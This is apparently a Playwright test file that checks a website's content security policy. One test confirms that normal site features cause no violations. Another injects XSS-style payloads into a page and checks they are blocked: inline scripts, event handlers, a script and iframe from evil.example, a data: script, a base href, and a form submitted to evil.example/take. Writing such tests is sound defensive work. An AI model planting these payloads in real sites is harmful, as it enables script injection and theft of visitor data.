import leaders from "../../data/leaders.json";
import { playerOrigins } from "../../src/shared/constants";
import { commonWord, labelOf, site } from "../support/words";
import { firstVisit } from "./support/consent-cookie";
import { fillIn, newVisitor, reasonNamed, submitButton } from "./support/inquiry-form";
import { openPage, widths } from "./support/page";
import { recordPolicyViolations } from "./support/policy";
import { sections } from "./support/routes";
import { expect, test } from "./support/site-test";

test.use({
  viewport: { width: widths.desktop, height: 900 },
  storageState: firstVisit,
  absent: /nowhere/,
});

const players: string[] = Object.values(playerOrigins).map((origin) => new URL(origin).host);

test.describe("with every feature in use", () => {
  test.use({ allowedHosts: players });

  test("nothing violates the policies", async ({ page, context }) => {
    await context.route(
      ({ host }) => players.includes(host),
      (route) => route.fulfill({ contentType: "text/html", body: "<p>Player</p>" }),
    );
    const violations = await recordPolicyViolations(page);
    await openPage(page, "/");

    await page.getByRole("button", { name: site.consent.preferences }).click();
    await page.getByRole("button", { name: site.consent.save }).click();

    await page.getByRole("button", { name: "Dark" }).first().click();

    const banner = page.getByRole("banner");
    await banner.getByRole("button", { name: site.search.label, exact: true }).click();
    await page.getByRole("searchbox").fill(commonWord);
    await page.locator("ol.search-results a").first().waitFor();
    await page.keyboard.press("Enter");
    await page.waitForURL("**/search?*");

    for (const { label, path } of sections.slice(0, 1)) {
      await banner.getByRole("button", { name: `${label} pages`, exact: true }).click();
      await banner.getByRole("link", { name: label, exact: true }).click();
      await expect(page).toHaveURL(path);
    }

    await banner.getByRole("link", { name: labelOf("/about-us"), exact: true }).click();
    const leader = `Read More about ${leaders.leaders[0]?.name}`;
    await page.getByRole("button", { name: leader, exact: true }).click();
    await page.getByRole("dialog").waitFor();
    await page.keyboard.press("Escape");

    await page.setViewportSize({ width: widths.phone, height: 844 });
    await page.getByRole("button", { name: "Open menu" }).click();
    await page.getByRole("dialog", { name: "Menu" }).waitFor();
    await page.keyboard.press("Escape");

    await openPage(page, "/components");
    for (const name of [/^Play on YouTube/, /^Play on Vimeo/]) {
      await page.getByRole("link", { name }).click();
    }
    for (const index of players.keys()) {
      const player = page.locator("iframe").nth(index).contentFrame();
      await expect(player.locator("p")).toHaveText("Player");
    }

    await fillIn(page, newVisitor(), reasonNamed("Media Inquiries"));
    await submitButton(page).click();
    await page.waitForURL("**/contact-us/success");
    expect(violations).toEqual([]);
  });
});

test.describe("injected markup", () => {
  test.use({ allowedHosts: ["evil.example"] });

  const injected = `
    <script>window.injected = "script"</script>
    <img src="/karyogram.svg" alt="" onload="window.injected = 'handler'">
    <script src="https://evil.example/x.js"></script>
    <script src="data:text/javascript,window.injected='data'"></script>
    <iframe src="https://evil.example/frame"></iframe>
    <iframe srcdoc="<script>parent.injected = 'srcdoc'</script>"></iframe>
    <img src="https://evil.example/pixel.png" alt="">
    <object data="/karyogram.svg"></object>
    <base href="https://evil.example/">
    <style>body { display: none }</style>
    <p style="display: none">Hidden</p>`;

  test("does not run, load, style or send anything", async ({ page, problems }) => {
    await page.route("/about-us", async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace("</main>", `${injected}</main>`);
      await route.fulfill({ response, body });
    });
    const asked: string[] = [];
    await page.route("https://evil.example/**", (route) => {
      asked.push(route.request().url());
      return route.abort();
    });
    const violations = await recordPolicyViolations(page);
    await page.goto("/about-us");
    await page.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "window.injected = 'added later'";
      document.body.append(script);
      setTimeout("window.injected = 'timer'", 0);
      location.href = "javascript:window.injected = 'address'";
      const form = document.createElement("form");
      form.action = "https://evil.example/take";
      document.body.append(form);
      form.submit();
    });
    const refused = [
      "script-src-elem: inline",
      "script-src-attr: inline",
      "script-src-elem: https://evil.example/x.js",
      "script-src-elem: data",
      "frame-src: https://evil.example",
      "img-src: https://evil.example/pixel.png",
      "object-src: ",
      "base-uri: https://evil.example",
      "style-src-elem: inline",
      "style-src-attr: inline",
      "script-src: eval",
      "form-action: https://evil.example",
    ];
    for (const expected of refused) {
      await expect
        .poll(() => violations.some((violation) => violation.startsWith(expected)), expected)
        .toBe(true);
    }
    const [ran, display] = await page.evaluate(() => [
      "injected" in window,
      getComputedStyle(document.body).display,
    ]);
    expect([ran, display]).toEqual([false, "block"]);
    expect(asked).toEqual([]);
    // Chromium logs each violation to the console.
    problems.splice(0);
  });

  test("does not run in the page of a form sent without scripts", async ({ page }) => {
    const form = { firstName: "<script>window.injected=1</script>" };
    const response = await page.request.post("/api/inquiry", { form });
    expect(response.headers()["content-security-policy"]).toMatch(
      /script-src 'none'; .*style-src 'sha256-[^ ;]+'; style-src-attr 'none'/,
    );
  });
});
